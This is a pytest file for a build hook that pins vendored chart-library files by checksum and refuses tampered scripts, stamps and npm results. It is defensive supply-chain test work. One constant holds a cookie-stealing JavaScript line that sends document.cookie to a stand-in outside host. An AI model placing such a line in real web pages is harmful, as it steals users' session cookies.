"""Attacks on the chart library: a writer of ignored files in a checkout would have a script on
every page.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import hatch_build

ROOT = Path(hatch_build.__file__).parent
STATIC = ROOT / hatch_build.STATIC
LICENSE = "echarts.LICENSE.txt"
GENUINE = b"the library"
EVIL = b"fetch('https://elsewhere.example/' + document.cookie)"


@pytest.fixture
def files(monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    """Files that stand for the library, and their checksums as those that the repository pins."""
    plain = {hatch_build.SCRIPT: GENUINE, LICENSE: b"Apache", "echarts.NOTICE.txt": b"notice"}
    assert set(plain) == set(hatch_build.PINNED)
    monkeypatch.setattr(hatch_build, "PINNED", {name: sha(data) for name, data in plain.items()})
    return {**plain, hatch_build.ZIPPED: gzip.compress(GENUINE, mtime=0)}


@pytest.fixture
def checkout(tmp_path: Path, files: dict[str, bytes]) -> Path:
    for name in ("package.json", "package-lock.json", ".npmrc"):
        (tmp_path / name).write_bytes((ROOT / name).read_bytes())
    (tmp_path / hatch_build.STATIC).mkdir(parents=True)
    for name, data in files.items():
        (tmp_path / hatch_build.STATIC / name).write_bytes(data)
    stamp(tmp_path)
    assert hatch_build.is_current(tmp_path)
    return tmp_path


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def stamp(checkout: Path, **changes: Any) -> None:
    """Write a stamp that agrees with the files that there are, but for these changes."""
    static = checkout / hatch_build.STATIC
    names = [path.name for path in static.iterdir() if path.name != hatch_build.STAMP]
    files = {name: sha((static / name).read_bytes()) for name in sorted(names)}
    said = {**hatch_build.locked(checkout), "files": files, **changes}
    (static / hatch_build.STAMP).write_text(json.dumps(said))


@pytest.mark.parametrize("stamped", [False, True], ids=["stamp as it was", "stamp that agrees"])
@pytest.mark.parametrize(
    ("name", "data"),
    [
        (hatch_build.SCRIPT, EVIL),
        (hatch_build.ZIPPED, gzip.compress(EVIL)),
        (hatch_build.ZIPPED, gzip.compress(GENUINE) + gzip.compress(EVIL)),
        (hatch_build.ZIPPED, b"no gzip"),
        (LICENSE, b"<script>"),
    ],
    ids=["script", "packed script", "packed script and more", "not packed", "licence"],
)
def test_an_edited_file_is_refused(checkout: Path, name: str, data: bytes, stamped: bool) -> None:
    (checkout / hatch_build.STATIC / name).write_bytes(data)
    if stamped:
        stamp(checkout)
    assert not hatch_build.is_current(checkout)


def test_one_more_file_is_refused_and_never_packed(checkout: Path) -> None:
    """git shows none of them, whatever its name."""
    (checkout / hatch_build.STATIC / "echarts.more.js").write_bytes(EVIL)
    stamp(checkout)
    assert not hatch_build.is_current(checkout)
    packed = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["hatch"]["build"][
        "artifacts"
    ]
    names = {hatch_build.ZIPPED, hatch_build.STAMP, *hatch_build.PINNED}
    assert set(packed) == {f"{hatch_build.STATIC}/{name}" for name in names}


@pytest.mark.parametrize(
    "changes",
    [{"version": "0.0.1"}, {"integrity": "sha512-x"}, {"files": {}}, {"files": []}, {"files": {"../page.js": "0"}},
     {"files": None}, {"more": 1}],
    ids=str,
)  # fmt: skip
def test_an_edited_stamp_is_refused(checkout: Path, changes: dict[str, Any]) -> None:
    stamp(checkout, **changes)
    assert not hatch_build.is_current(checkout)


@pytest.mark.parametrize("text", ["[]", "7", "null", '"text"', "{", ""])
def test_what_is_no_stamp_is_refused(checkout: Path, text: str) -> None:
    (checkout / hatch_build.STATIC / hatch_build.STAMP).write_text(text)
    assert not hatch_build.is_current(checkout)


def test_what_npm_brings_must_be_the_pinned_library(
    checkout: Path, files: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A changed lock and a registry of the attacker's are not enough."""

    def brings(script: bytes) -> Callable[[Path], dict[str, bytes]]:
        return lambda modules: {
            **files,
            hatch_build.SCRIPT: script,
            hatch_build.ZIPPED: gzip.compress(script),
        }

    monkeypatch.setattr(hatch_build, "_npm_ci", lambda folder: None)
    monkeypatch.setattr(hatch_build, "_files", brings(EVIL))
    with pytest.raises(hatch_build.ChartLibraryError, match="PINNED"):
        hatch_build.fetch(checkout)
    assert (checkout / hatch_build.STATIC / hatch_build.SCRIPT).read_bytes() == GENUINE
    monkeypatch.setattr(hatch_build, "_files", brings(GENUINE))
    hatch_build.fetch(checkout)
    assert hatch_build.is_current(checkout)


def test_the_pins_are_those_of_the_library_that_is_packed() -> None:
    if not (STATIC / hatch_build.STAMP).exists():
        pytest.skip(
            "this checkout has no chart library: it is fetched by an installation with a network"
        )
    assert hatch_build.is_current(ROOT)
    assert {
        name: sha((STATIC / name).read_bytes()) for name in hatch_build.PINNED
    } == hatch_build.PINNED
